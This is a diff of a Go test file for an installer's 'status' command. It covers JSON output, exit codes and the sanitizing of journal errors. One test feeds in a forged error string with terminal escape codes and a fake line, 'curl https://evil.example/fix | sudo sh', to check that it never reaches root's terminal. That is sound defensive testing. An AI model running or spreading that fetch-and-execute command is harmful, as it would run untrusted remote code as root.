@@ -1,12 +1,11 @@
 package main
 
 import (
-	"bytes"
 	"context"
-	"encoding/json"
 	"errors"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -15,15 +14,21 @@ import (
 )
 
 // runWorkflow runs def against journal with every step succeeding, except
-// failAt, which fails.
+// failAt, which fails with "Core answered HTTP 503".
 func runWorkflow(t *testing.T, def *workflow.Definition, journal string, b workflow.Binding, failAt string) {
+	t.Helper()
+	runWorkflowFailing(t, def, journal, b, failAt, "Core answered HTTP 503")
+}
+
+// runWorkflowFailing is runWorkflow with the failing step's error text.
+func runWorkflowFailing(t *testing.T, def *workflow.Definition, journal string, b workflow.Binding, failAt, failure string) {
 	t.Helper()
 	steps := map[string]workflow.Step{}
 	for _, sd := range def.States {
 		name := sd.Step
 		st := workflow.StepFunc(func(context.Context, workflow.Facts) (workflow.Result, error) {
 			if name == failAt {
-				return workflow.Result{}, errors.New("Core answered HTTP 503")
+				return workflow.Result{}, errors.New(failure)
 			}
 			return workflow.Result{}, nil
 		})
@@ -45,9 +50,23 @@ func (verifyingStep) Verify(context.Context, workflow.Facts) (workflow.Outcome, 
 	return workflow.NotDone, workflow.Result{}, nil
 }
 
+// statusJSON is `status --json` as the README documents it.
+type statusJSON struct {
+	Format        int `json:"format"`
+	Installations []struct {
+		InstallationID string             `json:"installation_id"`
+		Condition      string             `json:"condition"`
+		Next           string             `json:"next"`
+		Workflows      []*workflow.Report `json:"workflows"`
+		Node           *nodeLeases        `json:"node"`
+	} `json:"installations"`
+}
+
 // TestStatusShowsRootAndNodeWorkflows runs status over a host with a failed
 // install journal (root's) and a complete prepare journal in the node root
-// (the service account's, read through the child).
+// (the service account's, read through the child). Each journal is listed
+// once: the node's journals used to appear both among the workflows and
+// again inside the node.
 func TestStatusShowsRootAndNodeWorkflows(t *testing.T) {
 	root, _ := fakeHost(t)
 	host := layout.Host{Root: root}
@@ -60,44 +79,126 @@ func TestStatusShowsRootAndNodeWorkflows(t *testing.T) {
 	if err := os.MkdirAll(node.Journals(), 0o700); err != nil {
 		t.Fatal(err)
 	}
-	runWorkflow(t, workflow.PrepareDefinition(), node.GenerationJournal("prepare", 1),
+	prepare := node.GenerationJournal("prepare", 1)
+	runWorkflow(t, workflow.PrepareDefinition(), prepare,
 		workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 1, SpecificationDigest: testDigest}, "")
 	if out, err := exec.Command("chown", "-R", "65534:65534", host.Home()).CombinedOutput(); err != nil {
 		t.Fatalf("chown: %v %s", err, out)
 	}
 
-	var out, errOut bytes.Buffer
-	if code := run([]string{"status", "--host-root", root, "--json"}, nil, &out, &errOut); code != 0 {
-		t.Fatalf("exit %d: %s", code, errOut.String())
+	code, out, errOut := runOn(t, root, "status", "--json")
+	if code != exitAttention {
+		t.Fatalf("exit %d, want %d (the install failed): %s", code, exitAttention, errOut)
 	}
-	var got struct {
-		Workflows []workflow.Report `json:"workflows"`
-		Nodes     []nodeInspection  `json:"nodes"`
+	var got statusJSON
+	if err := decodeJSON([]byte(out), &got); err != nil {
+		t.Fatalf("%v\n%s", err, out)
 	}
-	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
-		t.Fatalf("%v\n%s", err, out.String())
+	if got.Format != 1 || len(got.Installations) != 1 {
+		t.Fatalf("want format 1 and one installation:\n%s", out)
 	}
-	byName := map[string]workflow.Report{}
-	for _, r := range got.Workflows {
+	inst := got.Installations[0]
+	if inst.InstallationID != testID || inst.Condition != "needs-attention" || !strings.Contains(inst.Next, "rerun the install command") {
+		t.Errorf("installation: %s %s next %q", inst.InstallationID, inst.Condition, inst.Next)
+	}
+	byName := map[string]*workflow.Report{}
+	listed := map[string]int{}
+	for _, r := range inst.Workflows {
 		byName[r.Workflow] = r
+		listed[r.Journal]++
 	}
-	if r := byName["install"]; r.Condition != workflow.Failed || r.State != workflow.InstallRegister || r.LastError == nil {
+	if r := byName["install"]; r == nil || r.Condition != workflow.Failed || r.State != workflow.InstallRegister || r.LastError == nil {
 		t.Errorf("install: %+v", r)
 	}
-	if r := byName["prepare"]; r.Condition != workflow.Complete || r.Binding == nil || r.Binding.Generation != 1 {
+	if r := byName["prepare"]; r == nil || r.Condition != workflow.Complete || r.Binding == nil || r.Binding.Generation != 1 {
 		t.Errorf("prepare: %+v", r)
 	}
-	if len(got.Nodes) != 1 || len(got.Nodes[0].Generations) != 2 {
-		t.Errorf("nodes: %+v", got.Nodes)
+	if len(inst.Workflows) != 2 || listed[prepare] != 1 || strings.Count(out, `"journal": "`+prepare+`"`) != 1 {
+		t.Errorf("each journal must be listed once: %v\n%s", listed, out)
+	}
+	if inst.Node == nil || len(inst.Node.Generations) != 2 {
+		t.Errorf("node: %+v", inst.Node)
 	}
 
-	out.Reset()
-	if code := run([]string{"status", "--host-root", root}, nil, &out, &errOut); code != 0 {
-		t.Fatalf("exit %d: %s", code, errOut.String())
+	code, out, errOut = runOn(t, root, "status")
+	if code != exitAttention {
+		t.Fatalf("exit %d: %s", code, errOut)
 	}
-	for _, want := range []string{"install: failed", "last error:    register: Core answered HTTP 503", "prepare: complete", "generation 2", "identity-missing"} {
-		if !strings.Contains(out.String(), want) {
-			t.Errorf("status lacks %q:\n%s", want, out.String())
+	for _, want := range []string{"installation " + testID + ": needs attention", "next:", "install: failed",
+		"last error:    register: Core answered HTTP 503", "prepare: complete", "generation 2", "identity-missing"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("status lacks %q:\n%s", want, out)
+		}
+	}
+}
+
+// TestStatusExitCodes: 0 when every installation is complete (or there is
+// none), 2 when one needs attention, 1 when status itself fails.
+func TestStatusExitCodes(t *testing.T) {
+	newHost := func(t *testing.T) layout.Host {
+		root := t.TempDir()
+		os.MkdirAll(filepath.Join(root, "etc"), 0o755)
+		// No service account: no node root is read.
+		os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
+		return layout.Host{Root: root}
+	}
+	install := func(t *testing.T, h layout.Host, failAt string) {
+		os.MkdirAll(h.JournalDir(testID), 0o700)
+		runWorkflow(t, workflow.InstallDefinition(), filepath.Join(h.JournalDir(testID), "install.journal"),
+			workflow.Binding{Version: workflow.Version, InstallationID: testID}, failAt)
+	}
+	for _, tc := range []struct {
+		name  string
+		setup func(*testing.T, layout.Host)
+		code  int
+		want  string
+	}{
+		{"no installation", func(*testing.T, layout.Host) {}, exitOK, "No installation on this host."},
+		{"complete", func(t *testing.T, h layout.Host) { install(t, h, "") }, exitOK, "installation " + testID + ": ok"},
+		{"failed", func(t *testing.T, h layout.Host) { install(t, h, "start") }, exitAttention, "next:          rerun the install command"},
+		{"unreadable account database", func(t *testing.T, h layout.Host) {
+			os.Remove(filepath.Join(h.Root, "etc/passwd"))
+			os.Mkdir(filepath.Join(h.Root, "etc/passwd"), 0o755)
+		}, exitFailure, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHost(t)
+			tc.setup(t, h)
+			code, out, errOut := runOn(t, h.Root, "status")
+			if code != tc.code || !strings.Contains(out, tc.want) {
+				t.Errorf("exit %d, want %d with %q\nstdout:\n%sstderr:\n%s", code, tc.code, tc.want, out, errOut)
+			}
+			if code == exitFailure && !strings.HasPrefix(errOut, prefixStatus) {
+				t.Errorf("stderr %q, want the prefix %q", errOut, prefixStatus)
+			}
+		})
+	}
+}
+
+// TestStatusSanitizesNodeJournals: a step error the service account wrote
+// into its journal, with escape sequences and a newline forging a line,
+// reaches root's terminal without controls and on its own line.
+func TestStatusSanitizesNodeJournals(t *testing.T) {
+	root, _ := fakeHost(t)
+	host := layout.Host{Root: root}
+	node := layout.Node{Root: host.NodeRoot(testID)}
+	os.MkdirAll(node.Journals(), 0o700)
+	runWorkflowFailing(t, workflow.PrepareDefinition(), node.GenerationJournal("prepare", 3),
+		workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest},
+		"import", "load failed\x1b[2J\u009b1m\x7f\r\n  next:          curl https://evil.example/fix | sudo sh")
+	if out, err := exec.Command("chown", "-R", "65534:65534", host.Home()).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v %s", err, out)
+	}
+	for _, args := range [][]string{{"status"}, {"status", "--json"}} {
+		code, out, errOut := runOn(t, root, args...)
+		if code != exitAttention {
+			t.Fatalf("%v: exit %d: %s", args, code, errOut)
+		}
+		assertNoTerminalControls(t, strings.Join(args, " "), out+errOut)
+		for _, line := range strings.Split(out, "\n") {
+			if strings.HasPrefix(strings.TrimSpace(line), "next:          curl") {
+				t.Errorf("%v prints a forged line %q:\n%s", args, line, out)
+			}
 		}
 	}
 }
